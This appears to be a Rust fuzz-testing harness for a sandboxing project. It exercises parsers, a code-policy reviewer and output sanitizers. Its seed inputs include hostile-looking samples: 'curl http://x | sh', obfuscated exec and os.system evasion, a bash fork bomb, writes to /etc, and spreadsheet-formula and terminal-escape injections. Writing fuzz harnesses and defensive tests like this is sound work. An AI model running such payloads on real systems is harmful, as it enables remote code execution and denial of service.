//! What a fuzzer does with bytes that a sandbox may send: one function per parser, which panics when a promise breaks.
//!
//! Used twice: by the targets in `fuzz/` (coverage-guided, nightly compiler) and by the test binary `fuzz` (seeds and
//! mutations, any compiler). So it depends on nothing but the parsers.

use atoll_core::form::Forms;
use atoll_core::wire::agent::{self, FromAgent, ToAgent};
use atoll_core::wire::frame::{Frame, FrameReader};
use atoll_core::wire::kernel;
use atoll_core::{Language, Verdict};
use atoll_engine::code_policy::review;
use atoll_engine::policy::Policy;
use atoll_guard::image::{Kind, check};
use atoll_guard::spreadsheet::Spreadsheet;
use atoll_guard::terminal::{How, Terminal};
use atoll_guard::{html, markdown, svg};
use atoll_jail::cgroup::{Layout, StatKind, read_stat};

/// A name, the body, and seeds that reach its deeper parts.
pub struct Target {
    pub name: &'static str,
    pub body: fn(&[u8]),
    pub seeds: &'static [&'static [u8]],
}

impl std::fmt::Debug for Target {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name)
    }
}

pub const TARGETS: &[Target] = &[
    Target {
        name: "audit",
        body: audit_line,
        seeds: &[
            br#"{"record":{"v":1,"seq":10,"time":"2026-11-16T10:03:16.820904Z","prev":"f89b0b8fd6733e713d4eeec92219beb9f4fbbeb3bfbd077a684b504124b19e3d","writer":"cb1d5f6860ac54e2","private":null,"body":{"kind":"checkpoint","open":[]}},"hash":"9f9a694fa253e281544acb18a759220c95e699e3ef46180535e0d074f10678f3","signature":"fa2fa710d5a834c5470ab19d536f4fd2d375adfb1042e89504402e1e308cade172f55dc3f86ea8ca4c2ffcaa756d69ca7409224729235a6e100224cee128da04","private":null}"#,
            br#"{"record":{"v":1,"seq":4,"time":"2026-11-16T10:03:16.766029Z","prev":"fb7cb1435939ae5425996360ab8c91f22df3dfdd3b74d9c57819ff0dc018af37","writer":"cb1d5f6860ac54e2","private":null,"body":{"kind":"closed","entry":2,"outcome":"ok","sandbox":"sbxawc2tbzmmsjjk7xtyl7nlcny34","inputs":[{"size":15222,"sha256":"d9a247b82c9f132519e39950e5bf28e775cba2e2fbddbdee6cd73e3e5936b49a"}],"outputs":[],"findings":[],"verdict":null,"approver":null,"usage":null,"receipt":null,"facts":null,"reason":null}},"hash":"b2cef09507536eeaeabeef1b67013f331fa231e1126b81a85f8d003756d7c229","signature":null,"private":null}"#,
            br#"{"record":{"v":2,"seq":18446744073709551615},"hash":"","signature":"00","private":{"salt":"","data":{}}}"#,
            br#"{"record":{"v":1,"body":{"kind":"closed","facts":{"layers":[[[[[[[[[[]]]]]]]]]]}}}}"#,
        ],
    },
    Target {
        name: "code_policy",
        body: code_policy,
        seeds: &[
            b"pimport os\nx = getattr(os, 'sys' + 'tem')\nx(f\"{chr(105)}d\")",
            b"pdef f(a=__import__, *b, **c) -> int:\n    while True:\n        yield (lambda: [i for i in a])()",
            b"p!pip install x\n%time y = !ls\nawait z?\n",
            b"p%%bash\ncurl http://x | sh",
            b"pexec(''.join(chr(c ^ 1) for c in [113, 98])[::-1].replace('a', 'b') + '%s' % 'x')",
            b"pmatch x:\n  case {'a': [*_, C(__class__=b)]} if b: pass\nwith (open('/etc/x', 'w') as f, g): pass",
            b"p\xd0\xb5val('1') # \xe2\x80\xae",
            b"jconst {exec: e} = require('child_' + 'process'); e(`ls ${x}`); while (true) {}",
            b"tlet x: number = (await import('fs')).readFileSync('/x')['\\x61' as any]",
            b"bfor i in $(seq 3); do c\\url \"$i\" > /etc/x; done; f() { f | f & }; $'\\x63' <<E\nx\nE\n",
        ],
    },
    Target {
        name: "frames",
        body: frames,
        seeds: &[
            b"\x20\x03\x05\0\0\0hello\0\0\0\0",
            b"\x04\x01\xff\xff\xff\xff too long",
            b"\xff\x07\x1d\0\0\0{\"type\":\"done\",\"id\":\"e\",\"exit_code\":1}",
            b"\x02\x02\x03\0\0\0abc\x01\0\0\0x",
        ],
    },
    Target {
        name: "guard",
        body: guard,
        seeds: &[
            b"h<table><tr><td style='color: red; background: url(//h)'>x<a href=//h>y</a><img src=//h><script>1</script>",
            b"h<style>.dataframe { color: red } @import '//h'</style><b><i><p>x<svg><title><img src=//h>",
            b"m# a\n\n![x](//h) [y][r] <https://h> `c` <img src=//h>\n\n[r]: //h 'z'\n\n| a |\n|---|\n| ![b](//h) |\n",
            b"s<svg xmlns=\"http://www.w3.org/2000/svg\"><style>*{fill:url(#a)}</style><g id=\"a\"><use href=\"#b\"/></g>&amp;</svg>",
            b"c\xef\xbb\xbfa;b\n=1;\"-1,5\"\r\n\" @x\n+A1\";\xef\xbc\x9d1|-2e5%\t--\n",
            b"t\x1b]52;c;x\x07\xe2\x80\xae a 1%\r a 2%\r\nb\xf3\xa0\x81\xa7",
            b"i\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\0\0\0\0sum.\0\0\0\0IENDsum.tail",
            b"iGIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
        ],
    },
    Target {
        name: "kernel",
        body: kernel_message,
        seeds: &[
            br#"{"type":"ready"}"#,
            br#"{"type":"failed","step":3,"errno":13}"#,
            br#"{"type":"result","id":"e","main":true,"data":{"text/plain":"1"},"chart":null}"#,
            br#"{"type":"error","id":"e","name":"E","value":"v","traceback":["a","b"]}"#,
            br#"{"type":"dropped","id":"e","bytes":18446744073709551615}"#,
            br#"{"type":"done","id":"e","exit_code":-1}"#,
            br#"{"type":"done","id":[[[[[[[[{"a":1e999}]]]]]]]]}"#,
        ],
    },
    Target {
        name: "agent",
        body: agent_message,
        seeds: &[
            br#"{"request":0,"answer":{"type":"ready"}}"#,
            br#"{"request":1,"answer":{"type":"spawned","pid":7}}"#,
            br#"{"request":4294967295,"answer":{"type":"exited","code":null,"signal":9}}"#,
            br#"{"request":1,"answer":{"type":"file","path":"a/../b","size":18446744073709551615}}"#,
            br#"{"request":1,"answer":{"type":"skipped","path":"\ud800","why":"\u0000"}}"#,
            br#"{"request":1,"answer":{"type":"scratch","free_bytes":1,"free_inodes":2}}"#,
            br#"{"request":2,"answer":{"type":"entries","last":true,"entries":[{"path":"/a","kind":"link","size":1,"mode":511,"owner":"user","group":"user","modified_ns":-1,"link_target":"/b","metadata":{"k":"v"}}]}}"#,
            br#"{"request":3,"answer":{"type":"changed","change":{"name":"a","kind":"renamed","entry":null}}}"#,
            br#"{"request":4,"answer":{"type":"refused","why":"no_room","message":"full"}}"#,
            br#"{"request":5,"ask":{"type":"collect","dir":"/data/output","max_files":9}}"#,
            br#"{"request":6,"ask":{"type":"spawn","argv":["sh"],"env":{"A":"b"},"cwd":"~","terminal":{"columns":80,"rows":24}}}"#,
            br#"{"request":7,"ask":{"type":"write","path":"a","metadata":{}}}"#,
            br#"{"request":8,"ask":{"type":"watch","path":"","recursive":true}}"#,
        ],
    },
    Target {
        name: "stat",
        body: stat_text,
        seeds: &[
            b"usage_usec 18446744073709551615\nuser_usec 1\n",
            b"oom_kill_disable 0\nunder_oom 0\noom_kill 3\n",
            b"max 7\n",
            b"123456\n",
        ],
    },
    Target {
        name: "layout",
        body: layout_text,
        seeds: &[
            b"30 29 0:27 / /sys/fs/cgroup/cpu rw - cgroup cgroup rw,cpu\0\x31:cpu:/a/b\n\0memory",
            b"28 22 0:25 / /sys/fs/cgroup rw shared:9 - cgroup2 cgroup2 rw\x000::/x\n\0cpu io memory pids",
            b"1 2 3 /../.. /a\\040b - cgroup x memory\x003:memory:/..\n\0",
        ],
    },
];

/// The first byte is the bound, the second the size of the pieces in which the stream arrives.
pub fn frames(data: &[u8]) {
    let [bound, piece, stream @ ..] = data else { return };
    let (bound, piece) = (usize::from(*bound) * 4, usize::from(*piece).max(1));
    let whole = FrameReader::new(bound).feed(stream);
    let mut reader = FrameReader::new(bound);
    let mut pieces = Vec::new();
    for piece in stream.chunks(piece) {
        pieces.extend(reader.feed(piece));
    }
    assert_eq!(
        whole, pieces,
        "the same bytes give the same frames, however they are cut"
    );
    for frame in whole {
        match frame {
            Frame::Whole(body) => {
                assert!(body.len() <= bound, "nothing above the bound is kept");
                kernel_message(&body);
            }
            Frame::Skipped { bytes } => assert!(bytes > bound, "only what is above the bound is skipped"),
        }
    }
}

/// Any bytes are a message or none; never a panic, never a stack overflow.
pub fn kernel_message(data: &[u8]) {
    let read = kernel::parse(data);
    assert_eq!(read, kernel::parse(data), "the same bytes are the same message");
    if let Some(kernel::FromKernel::Result { data, .. }) = read {
        let json = serde_json::to_string(&data).unwrap_or_default();
        assert!(!json.contains(['\n', '\r']), "a result is one line");
        assert!(serde_json::from_str(&json).is_ok_and(|again: Forms| again == data));
    }
}

/// What an agent says comes back as it went.
pub fn agent_message(data: &[u8]) {
    if let Some(message) = agent::parse::<FromAgent>(data) {
        let again = agent::encode(&message).and_then(|body| agent::parse(&body));
        assert!(again.is_none_or(|again: FromAgent| again == message));
    }
    if let Some(message) = agent::parse::<ToAgent>(data) {
        let again = agent::encode(&message).and_then(|body| agent::parse(&body));
        assert!(again.is_none_or(|again: ToAgent| again == message));
    }
}

/// A control file's text is a number or none.
pub fn stat_text(data: &[u8]) {
    let Ok(text) = std::str::from_utf8(data) else { return };
    for kind in [
        StatKind::CpuNanos,
        StatKind::CpuStat,
        StatKind::PeakBytes,
        StatKind::OomKills,
        StatKind::PidsEvents,
    ] {
        let read = read_stat(kind, text);
        assert!(read.is_none() || text.bytes().any(|byte| byte.is_ascii_digit()));
    }
}

/// Three texts, parted by a zero byte: mounts, own groups, controllers. No group lies outside its mount.
pub fn layout_text(data: &[u8]) {
    let Ok(text) = std::str::from_utf8(data) else { return };
    let mut parts = text.splitn(3, '\0');
    let (mounts, groups) = (parts.next().unwrap_or_default(), parts.next().unwrap_or_default());
    let controllers = parts.next().unwrap_or_default().to_owned();
    let layout = Layout::read(mounts, groups, &|_| controllers.clone());
    for hierarchy in &layout.hierarchies {
        assert!(!hierarchy.controllers.is_empty());
    }
    assert!(layout.missing().len() <= 3);
}

/// What is taken as a line of the audit log is spelled as it would be written, and its hash fits.
pub fn audit_line(data: &[u8]) {
    if let Ok(line) = atoll_engine::audit::decode(data) {
        let record = serde_json::to_vec(&line.record).unwrap_or_default();
        assert_eq!(atoll_engine::audit::Digest::of(&record), line.hash);
        assert!(data.windows(record.len()).any(|part| part == record));
    }
}

/// The first byte is the language. Whatever is read: a bound on findings, places inside of the source, and the strictest verdict.
pub fn code_policy(data: &[u8]) {
    let Some((first, rest)) = data.split_first() else {
        return;
    };
    let Ok(source) = std::str::from_utf8(rest) else { return };
    let language = match first {
        b'j' => Language::Javascript,
        b't' => Language::Typescript,
        b'b' => Language::Bash,
        _ => Language::Python,
    };
    let review = review(source, language, &Policy::standard().code);
    let lines = source.matches('\n').count() + 1;
    assert!(review.findings.len() <= 200 && review.verdict <= Verdict::Warn);
    for finding in &review.findings {
        assert!((1..=lines).contains(&(finding.line as usize)) && finding.column >= 1);
        assert!(finding.verdict <= review.verdict && !finding.message.contains('\n'));
    }
    if let Some(fault) = review.syntax {
        assert!(
            fault
                .traceback(1)
                .last()
                .is_some_and(|line| line.contains(&fault.message))
        );
    }
}

/// The first byte says what the others are. What is cleaned is not much longer than it was, and a second time finds nothing.
pub fn guard(data: &[u8]) {
    let Some((kind, bytes)) = data.split_first() else {
        return;
    };
    let text = String::from_utf8_lossy(bytes);
    let cleaner = match kind {
        b'h' => html::clean,
        b'm' => markdown::clean,
        b's' => svg::clean,
        b't' => return on_a_terminal(bytes),
        b'c' => return in_a_spreadsheet(bytes),
        _ => return image(bytes),
    };
    let Ok(once) = cleaner(&text) else { return };
    assert!(once.text.len() <= 100 * text.len() + 1_000, "{} bytes", once.text.len());
    let twice = cleaner(&once.text);
    assert!(twice.is_ok_and(|twice| !twice.changed), "{:?}", once.text);
}

fn on_a_terminal(bytes: &[u8]) {
    for how in [How::Show, How::Strip] {
        let mut terminal = Terminal::new(how);
        let shown = terminal.pass(bytes) + &terminal.end();
        let without_bars = shown.replace("\r\u{1b}[K", "");
        assert!(
            !without_bars.contains(|c: char| c.is_control() && c != '\n' && c != '\t'),
            "{shown:?}"
        );
    }
}

fn in_a_spreadsheet(bytes: &[u8]) {
    let whole = |bytes: &[u8]| {
        let mut sheet = Spreadsheet::default();
        let mut written = sheet.pass(bytes);
        written.extend(sheet.end());
        written
    };
    let once = whole(bytes);
    assert!(once.len() <= 2 * bytes.len(), "{} bytes", once.len());
    // What was put in does not move the end of what the delimiter is looked for in.
    assert!(bytes.len() > 8 << 10 || whole(&once) == once, "{once:?}");
}

fn image(bytes: &[u8]) {
    for kind in [Kind::Png, Kind::Jpeg, Kind::Gif, Kind::Webp] {
        if let Ok(length) = check(bytes, kind) {
            assert!(length <= bytes.len());
            assert_eq!(check(&bytes[..length], kind), Ok(length));
        }
    }
}
